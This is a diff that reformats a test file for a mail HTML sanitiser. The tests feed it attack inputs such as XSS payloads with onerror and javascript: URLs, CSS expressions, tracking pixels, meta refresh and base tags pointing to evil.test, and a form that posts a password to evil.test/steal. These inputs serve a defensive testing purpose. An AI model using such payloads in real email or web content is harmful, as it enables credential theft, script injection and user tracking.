@@ -27,24 +27,51 @@ describe('sanitizeMailHtml against attack vectors', () => {
     ['CSS expression in style attribute', '<div style="width: expression(alert(1))">x</div>'],
     ['CSS expression hidden by a comment', '<div style="width: exp/**/ression(alert(1))">x</div>'],
     ['CSS escape', '<div style="width: \\65 xpression(alert(1))">x</div>'],
-    ['CSS behavior and -moz-binding', '<div style="behavior: url(x.htc); -moz-binding: url(https://e/x.xml#x)">x</div>'],
+    [
+      'CSS behavior and -moz-binding',
+      '<div style="behavior: url(x.htc); -moz-binding: url(https://e/x.xml#x)">x</div>',
+    ],
     ['remote CSS url() in style attribute', '<div style="background: url(https://tracker.test/p.gif)">x</div>'],
-    ['remote CSS in a style block', '<style>body{background:url("https://tracker.test/p.gif")} @import url(https://e.test/x.css);</style><p>x</p>'],
-    ['@font-face loading a remote font', '<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{color:red}</style><p>x</p>'],
-    ['image-set loading without url()', '<div style="background-image: image-set(\'https://e.test/x.png\' 1x)">x</div>'],
+    [
+      'remote CSS in a style block',
+      '<style>body{background:url("https://tracker.test/p.gif")} @import url(https://e.test/x.css);</style><p>x</p>',
+    ],
+    [
+      '@font-face loading a remote font',
+      '<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{color:red}</style><p>x</p>',
+    ],
+    [
+      'image-set loading without url()',
+      '<div style="background-image: image-set(\'https://e.test/x.png\' 1x)">x</div>',
+    ],
     ['style block breaking out into script', '<style>p{color:red}</style><script>alert(1)</script><style>x{}</style>'],
     ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">x'],
-    ['form', '<form action="https://evil.test/steal" method="post"><input name="password"><button formaction="https://evil.test">Go</button></form>'],
+    [
+      'form',
+      '<form action="https://evil.test/steal" method="post"><input name="password"><button formaction="https://evil.test">Go</button></form>',
+    ],
     ['base', '<base href="https://evil.test/"><a href="/x">x</a>'],
-    ['iframe, object, embed', '<iframe src="https://evil.test"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">'],
+    [
+      'iframe, object, embed',
+      '<iframe src="https://evil.test"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
+    ],
     ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
     ['tracking pixel', '<img src="https://tracker.test/open.gif?u=1" width="1" height="1">'],
     ['protocol-relative image', '<img src="//tracker.test/open.gif">'],
-    ['remote table background', '<table background="https://tracker.test/bg.png"><tr><td background="http://t.test/x.png">x</td></tr></table>'],
+    [
+      'remote table background',
+      '<table background="https://tracker.test/bg.png"><tr><td background="http://t.test/x.png">x</td></tr></table>',
+    ],
     ['srcset', '<img srcset="https://t.test/a.png 1x, https://t.test/b.png 2x">'],
-    ['video poster and audio', '<video poster="https://t.test/p.png" src="https://t.test/v.mp4"></video><audio src="https://t.test/a.mp3"></audio>'],
+    [
+      'video poster and audio',
+      '<video poster="https://t.test/p.png" src="https://t.test/v.mp4"></video><audio src="https://t.test/a.mp3"></audio>',
+    ],
     ['unclosed tags and comments', '<p><!--<script>alert(1)</script>--><img src="x" onerror="alert(1)"'],
-    ['smuggled data-remote attributes stay ours', '<img data-remote-src="javascript:alert(1)" data-attachment-part="1">'],
+    [
+      'smuggled data-remote attributes stay ours',
+      '<img data-remote-src="javascript:alert(1)" data-attachment-part="1">',
+    ],
   ])('%s', (_name, input) => {
     const { html } = clean(input);
     assertInert(html);
@@ -72,13 +99,16 @@ describe('sanitizeMailHtml against attack vectors', () => {
   });
 
   it('keeps ordinary formatting, safe styles, tables, links (opened in a new tab) and inline data images', () => {
-    const input = '<style>.x{color:#333;font-family:Arial}</style><table width="100%" cellpadding="4"><tr><td class="x" style="font-weight:bold">Cell</td></tr></table>'
-      + '<a href="https://example.test/a?b=1">link</a><a href="mailto:a@example.test">mail</a><img src="data:image/png;base64,iVBORw0KGgo=">';
+    const input =
+      '<style>.x{color:#333;font-family:Arial}</style><table width="100%" cellpadding="4"><tr><td class="x" style="font-weight:bold">Cell</td></tr></table>' +
+      '<a href="https://example.test/a?b=1">link</a><a href="mailto:a@example.test">mail</a><img src="data:image/png;base64,iVBORw0KGgo=">';
     const { html, hasRemoteContent } = clean(input);
     expect(hasRemoteContent).toBe(false);
     expect(html).toContain('<style>.x{color:#333;font-family:Arial}</style>');
     expect(html).toContain('<td class="x" style="font-weight:bold">Cell</td>');
-    expect(html).toContain('<a href="https://example.test/a?b=1" target="_blank" rel="noopener noreferrer nofollow">link</a>');
+    expect(html).toContain(
+      '<a href="https://example.test/a?b=1" target="_blank" rel="noopener noreferrer nofollow">link</a>',
+    );
     expect(html).toContain('href="mailto:a@example.test"');
     expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
   });
@@ -90,22 +120,29 @@ describe('sanitizeMailHtml against attack vectors', () => {
 
   it("drops a sender's own data-remote-* attributes: only the sanitiser writes them, from CSS it cleaned", () => {
     const { html, hasRemoteContent } = clean(
-      '<div data-remote-style="background-image: image-set(\'https://e.test/x.png\' 1x)" data-remote-background="https://e.test/b.png" data-remote-other="x">x</div>'
-      + '<img data-remote-srcset="https://e.test/a.png 1x" alt="a">'
-      + '<p style="color: red" data-remote-style="background: url(https://e.test/smuggled.png)">y</p>',
+      '<div data-remote-style="background-image: image-set(\'https://e.test/x.png\' 1x)" data-remote-background="https://e.test/b.png" data-remote-other="x">x</div>' +
+        '<img data-remote-srcset="https://e.test/a.png 1x" alt="a">' +
+        '<p style="color: red" data-remote-style="background: url(https://e.test/smuggled.png)">y</p>',
     );
     expect(html).toBe('<div>x</div><img alt="a" /><p style="color: red">y</p>');
     expect(hasRemoteContent).toBe(false);
   });
 
   it('keeps remote images of a style block restorable, so "Show images" loads what it promised', () => {
-    const { html, hasRemoteContent } = clean('<style>.hero{background:url("https://cdn.test/hero.png")} p{color:red}</style><p class="hero">x</p>');
+    const { html, hasRemoteContent } = clean(
+      '<style>.hero{background:url("https://cdn.test/hero.png")} p{color:red}</style><p class="hero">x</p>',
+    );
     expect(hasRemoteContent).toBe(true);
     expect(html).toContain('>.hero{background:none} p{color:red}</style>');
-    expect(html).toContain('<style data-remote-sheet=".hero{background:url(&quot;https://cdn.test/hero.png&quot;)} p{color:red}">');
+    expect(html).toContain(
+      '<style data-remote-sheet=".hero{background:url(&quot;https://cdn.test/hero.png&quot;)} p{color:red}">',
+    );
   });
 
   it('offers "Show images" only for something that would load: fonts never do', () => {
-    expect(clean('<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{font-family:x}</style><p>x</p>').hasRemoteContent).toBe(false);
+    expect(
+      clean('<style>@font-face{font-family:x;src:url(https://e.test/f.woff)} p{font-family:x}</style><p>x</p>')
+        .hasRemoteContent,
+    ).toBe(false);
   });
 });
